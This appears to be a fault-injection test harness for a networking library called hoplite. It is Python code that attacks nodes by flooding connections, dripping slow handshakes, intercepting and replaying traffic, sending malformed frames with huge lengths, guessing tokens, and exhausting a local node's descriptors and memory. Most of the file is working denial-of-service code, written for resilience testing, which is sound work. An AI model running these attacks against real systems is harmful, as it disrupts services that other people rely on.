"""A process without the token that attacks nodes, until its standard input ends.

It prints a line of JSON when the attack is under way, and one with what it did and heard at the end. It knows of the
protocol no more than an attacker reads in the code: how a frame begins, and how lengths are written.
"""

from __future__ import annotations

import argparse
import contextlib
import itertools
import json
import os
import re
import resource
import selectors
import socket
import struct
import sys
import threading
import time
from typing import TYPE_CHECKING, NamedTuple

import hoplite

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

# Connections that one process tries, and how many of them in a second.
TRIES_MAX = 10_000
TRIES_PER_S = 2_000
# Descriptors that an attacker needs for something else than connections.
SPARE = 64
# Of the attack with few connections that are never done.
SLOW = 200
# How long the close of a socket blocks, in seconds.
LINGER_S = 25
# A step of the loop, and between two bytes of the attack that says one after the other.
STEP_S, BYTE_S = 0.05, 1.0

MAGIC = b"HPLT"
HEADER = struct.Struct("<4sBBHIIQQ16s")
KINDS = range(1, 9)
GREETING, SECURE = 1, 8
# What is announced and never sent.
HUGE = 1 << 63

Address = tuple[str, int]


class Talk(NamedTuple):
    """What an attack says on a connection.

    Attributes:
        opening: said at once.
        drip: said after that, a byte a second.
        echoes: whether what the node says is said back to it, here and on the connection before.
        held: connections at a time.
    """

    opening: bytes = b""
    drip: bytes = b""
    echoes: bool = False
    held: int = TRIES_MAX


class Report:
    """What was tried, and what came of it."""

    def __init__(self) -> None:
        self.tries = 0
        self.connected = 0
        self.ended = 0
        self.joined = 0
        self.heard = 0
        # Bytes of the node's memory that the attacker has kept.
        self.kept = 0


def crc32c(data: bytes) -> int:
    """The checksum of a body."""
    crc = 0xFFFFFFFF
    for byte in data:
        crc ^= byte
        for _ in range(8):
            crc = crc >> 1 ^ (0x82F63B78 if crc & 1 else 0)
    return crc ^ 0xFFFFFFFF


def frame(version: int, kind: int, body: bytes = b"", length: int | None = None, number: int = 0) -> bytes:
    """A frame that is not sealed."""
    length = len(body) if length is None else length
    return HEADER.pack(MAGIC, version, kind, 0, length, crc32c(body), number, number, bytes(16)) + body


def varint(number: int) -> bytes:
    """A number as bodies have it."""
    groups = []
    while number > 0x7F:
        groups.append(number & 0x7F | 0x80)
        number >>= 7
    return bytes([*groups, number])


def version_of(address: Address) -> int:
    """Which version a node speaks: it says so to one that speaks another."""
    with socket.create_connection(address, timeout=5) as stream:
        stream.sendall(MAGIC + bytes(44))
        answer = stream.recv(4096)
    assert answer.startswith(MAGIC), answer
    return answer[4]


def lengths(version: int) -> Iterator[bytes]:
    """Frames that announce what is never sent."""
    for kind in KINDS:
        yield frame(version, kind, length=0xFFFFFFFF, number=HUGE)
        yield frame(version, kind, length=16 * 1024, number=HUGE)
    # Greetings of every kind, in which a text or a list is said to be that long.
    for variant in range(10):
        yield frame(version, GREETING, bytes([variant]) + varint(HUGE))
    yield frame(version, SECURE) + b"\x16\x03\x03\xff\xff" + bytes(64)


def openings(attack: str, version: int, recorded: bytes) -> Iterator[Talk]:
    """What the connections of an attack say, one after the other."""
    secure = frame(version, SECURE)
    half = secure + b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(range(32))
    if attack == "silent":
        yield from itertools.repeat(Talk())
    elif attack == "half":
        yield from itertools.repeat(Talk(half))
    elif attack == "slow":
        yield from itertools.repeat(Talk(drip=half, held=SLOW))
    elif attack == "replay":
        yield from itertools.repeat(Talk(recorded))
    elif attack == "reflect":
        yield from itertools.repeat(Talk(secure, echoes=True))
    else:
        yield from (Talk(opening) for opening in itertools.cycle(lengths(version)))


class Swarm:
    """Connections to nodes, as many as this process may have, opened again when a node ends one."""

    def __init__(self, targets: list[Address], talks: Iterator[Talk], report: Report) -> None:
        self.targets = itertools.cycle(targets)
        self.talks = talks
        self.report = report
        _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
        self.most = most - SPARE
        self._selector = selectors.DefaultSelector()
        self._talks: dict[socket.socket, Talk] = {}
        self._dripped: dict[socket.socket, int] = {}
        self._last: socket.socket | None = None

    def run(self, stop: threading.Event) -> None:
        """Attacks until told to stop."""
        begun = dripped = time.monotonic()
        while not stop.is_set():
            now = time.monotonic()
            due = min(int((now - begun) * TRIES_PER_S) + 1, TRIES_MAX)
            while self.report.tries < due and self._open():
                pass
            for key, _ in self._selector.select(STEP_S):
                assert isinstance(key.fileobj, socket.socket)
                self._hear(key.fileobj)
            if now - dripped > BYTE_S:
                dripped = now
                for stream in list(self._dripped):
                    self._drip(stream)
        for stream in list(self._talks):
            self._end(stream)

    def _open(self) -> bool:
        talk = next(self.talks)
        if len(self._talks) >= min(self.most, talk.held):
            return False
        self.report.tries += 1
        stream = socket.socket()
        try:
            stream.settimeout(1.0)
            stream.connect(next(self.targets))
            stream.setblocking(False)
            stream.send(talk.opening)
        except OSError:
            stream.close()
            return True
        self.report.connected += 1
        self._talks[stream] = talk
        self._selector.register(stream, selectors.EVENT_READ)
        if talk.drip:
            self._dripped[stream] = 0
        return True

    def _hear(self, stream: socket.socket) -> None:
        try:
            said = stream.recv(65536)
        except BlockingIOError:
            return
        except OSError:
            said = b""
        if not said:
            self._end(stream)
            return
        self.report.heard += len(said)
        if self._talks[stream].echoes:
            for other in (self._last, stream):
                with contextlib.suppress(OSError):
                    if other is not None:
                        other.send(said)
            self._last = stream

    def _drip(self, stream: socket.socket) -> None:
        at, drip = self._dripped[stream], self._talks[stream].drip
        self._dripped[stream] += 1
        with contextlib.suppress(OSError):
            stream.send(drip[at : at + 1])

    def _end(self, stream: socket.socket) -> None:
        self.report.ended += 1
        self._selector.unregister(stream)
        del self._talks[stream]
        self._dripped.pop(stream, None)
        if self._last is stream:
            self._last = None
        stream.close()


def record(listener: socket.socket, target: Address) -> bytes:
    """What an honest node says to another: it is lured to this process, which passes on what both say."""
    near, _ = listener.accept()
    far = socket.create_connection(target, timeout=5)
    said = []

    def back() -> None:
        with contextlib.suppress(OSError):
            while data := far.recv(65536):
                near.sendall(data)

    answering = threading.Thread(target=back)
    answering.start()
    near.settimeout(2)
    with contextlib.suppress(OSError):
        while data := near.recv(65536):
            said.append(data)
            far.sendall(data)
    for stream in (near, far):
        with contextlib.suppress(OSError):
            stream.shutdown(socket.SHUT_RDWR)
    answering.join()
    near.close()
    far.close()
    return b"".join(said)


def guess(targets: list[Address], report: Report, stop: threading.Event) -> None:
    """Joins with tokens of its own making."""
    host = socket.create_connection(targets[0], timeout=5)
    own = host.getsockname()[0]
    host.close()
    for target in itertools.cycle(targets):
        if stop.is_set():
            return
        report.tries += 1
        try:
            hoplite.Node(listen=f"{own}:0", join=[f"{target[0]}:{target[1]}"], token=hoplite.new_token()).close()
        except hoplite.JoinError:
            report.ended += 1
        else:
            report.joined += 1


def local_version(path: str) -> int:
    """Which version a node speaks to processes of its host."""
    with socket.socket(socket.AF_UNIX) as probe:
        probe.connect(path)
        probe.sendall(local_frame(b"\0\0"))
        found = re.search(rb"uses version (\d+)", probe.recv(4096))
    assert found is not None
    return int(found[1])


def take_no_descriptors(path: str, ref: str, report: Report, stop: threading.Event) -> None:
    """Attaches to a node of this host, asks for memory again and again, and reads no answer."""
    hello = local_frame(b"\0" + varint(local_version(path)))
    name = ref.encode()
    streams: list[socket.socket] = []
    numbers = itertools.count(1)
    while not stop.wait(STEP_S):
        while len(streams) < SLOW:
            stream = socket.socket(socket.AF_UNIX)
            stream.connect(path)
            stream.setblocking(False)
            stream.send(hello)
            streams.append(stream)
            report.tries += 1
        for stream in list(streams):
            # A get, and that the first extents could not be mapped, so that their descriptors are sent again.
            get = b"\1" + varint(next(numbers)) + b"\6\1" + varint(len(name)) + name + b"\0"
            unmapped = b"".join(local_frame(b"\6" + varint(extent)) for extent in range(4))
            try:
                stream.send(local_frame(get) + unmapped)
                report.connected += 1
            except BlockingIOError:
                pass
            except OSError:
                report.ended += 1
                stream.close()
                streams.remove(stream)
    for stream in streams:
        stream.close()


def send_sockets(path: str, report: Report, stop: threading.Event) -> None:
    """Sends a node sockets whose close blocks, and says nothing else."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        unread: list[socket.socket] = []
        while not stop.wait(STEP_S):
            if len(unread) >= SPARE:
                continue
            report.tries += 1
            with socket.create_connection(listener.getsockname()) as sent, socket.socket(socket.AF_UNIX) as stream:
                unread.append(listener.accept()[0])
                sent.setblocking(False)
                with contextlib.suppress(BlockingIOError):
                    while True:
                        sent.send(bytes(65536))
                sent.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, LINGER_S))
                stream.connect(path)
                try:
                    socket.send_fds(stream, [b"\0"], [sent.fileno()])
                    report.connected += 1
                except PermissionError:
                    report.ended += 1
                    sent.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 0, 0))


def confined_hello(path: str, capability: str) -> bytes:
    """What a client with a capability says first."""
    text = capability.encode()
    return local_frame(b"\x0a" + varint(local_version(path)) + varint(len(text)) + text)


def take_places(path: str, capability: str, report: Report, stop: threading.Event) -> None:
    """Attaches as often as the node lets this process."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    hello = confined_hello(path, capability)
    attached: list[socket.socket] = []
    asking: list[socket.socket] = []
    while not stop.wait(STEP_S):
        for _ in range(int(TRIES_PER_S * STEP_S)):
            if report.tries >= TRIES_MAX or len(attached) + len(asking) >= most - SPARE:
                break
            stream = socket.socket(socket.AF_UNIX)
            stream.setblocking(False)
            try:
                stream.connect(path)
                stream.send(hello)
            except OSError:
                stream.close()
                break
            report.tries += 1
            asking.append(stream)
        for stream in list(asking):
            try:
                said = stream.recv(4096)
            except BlockingIOError:
                continue
            except OSError:
                said = b""
            asking.remove(stream)
            # A welcome is the first of the messages.
            if said[4:5] == b"\0":
                attached.append(stream)
                report.connected += 1
            else:
                report.ended += 1
                stream.close()
    for stream in attached + asking:
        stream.close()


def keep_copies(path: str, ref: str, capability: str, report: Report, stop: threading.Event) -> None:
    """Gets an object again and again, each time as a new client, and keeps the descriptors of its copies."""
    hello, name = confined_hello(path, capability), ref.encode()
    get = local_frame(b"\1\1\6\1" + varint(len(name)) + name + b"\0")
    kept: list[int] = []
    while not stop.wait(STEP_S):
        if len(kept) >= SLOW:
            continue
        report.tries += 1
        with socket.socket(socket.AF_UNIX) as stream:
            stream.settimeout(5)
            stream.connect(path)
            stream.sendall(hello + get)
            with contextlib.suppress(OSError):
                while not (got := socket.recv_fds(stream, 4096, 8))[1] and got[0]:
                    pass
                kept += got[1]
    report.connected = len(kept)
    until = time.monotonic() + 5
    while time.monotonic() < until:
        report.kept = sum(os.fstat(descriptor).st_blocks * 512 for descriptor in kept)
        if not report.kept:
            break
        time.sleep(STEP_S)


def local_frame(body: bytes) -> bytes:
    """A frame of the Unix socket."""
    return struct.pack("<I", len(body)) + body


# Those of a program of the host.
LOCAL = ("local", "sockets", "places", "copies")
ATTACKS = ("silent", "half", "slow", "replay", "reflect", "lengths", "token", *LOCAL)


def main() -> None:
    """Attacks."""
    parser = argparse.ArgumentParser(prog="python -m faults.attacker")
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument(
        "targets",
        nargs="+",
        help="addresses of nodes; for those of LOCAL a socket, the name of an object, a capability",
    )
    parser.add_argument("--listen", default="127.0.0.1", help="where `replay` waits for a node that it records")
    options = parser.parse_args()
    report, stop = Report(), threading.Event()
    run: Callable[[threading.Event], None]
    if options.attack in LOCAL:
        path, ref, capability = options.targets
        run = {
            "local": lambda stop: take_no_descriptors(path, ref, report, stop),
            "sockets": lambda stop: send_sockets(path, report, stop),
            "places": lambda stop: take_places(path, capability, report, stop),
            "copies": lambda stop: keep_copies(path, ref, capability, report, stop),
        }[options.attack]
    else:
        targets = [(host, int(port)) for host, _, port in (target.rpartition(":") for target in options.targets)]
        if options.attack == "token":
            run = lambda stop: guess(targets, report, stop)  # noqa: E731
        else:
            recorded = b""
            if options.attack == "replay":
                with socket.create_server((options.listen, 0)) as listener:
                    say({"lure": f"{options.listen}:{listener.getsockname()[1]}"})
                    recorded = record(listener, targets[0])
            swarm = Swarm(targets, openings(options.attack, version_of(targets[0]), recorded), report)
            run = swarm.run
    thread = threading.Thread(target=run, args=(stop,))
    thread.start()
    # Each target has met it.
    least = 1 if options.attack in LOCAL else 2 * len(options.targets)
    while thread.is_alive() and report.tries < least:
        time.sleep(STEP_S)
    say({"attack": options.attack})
    sys.stdin.read()
    stop.set()
    thread.join()
    say(vars(report))


def say(words: dict[str, object]) -> None:
    """Writes a line."""
    sys.stdout.write(json.dumps(words) + "\n")
    sys.stdout.flush()


if __name__ == "__main__":
    main()
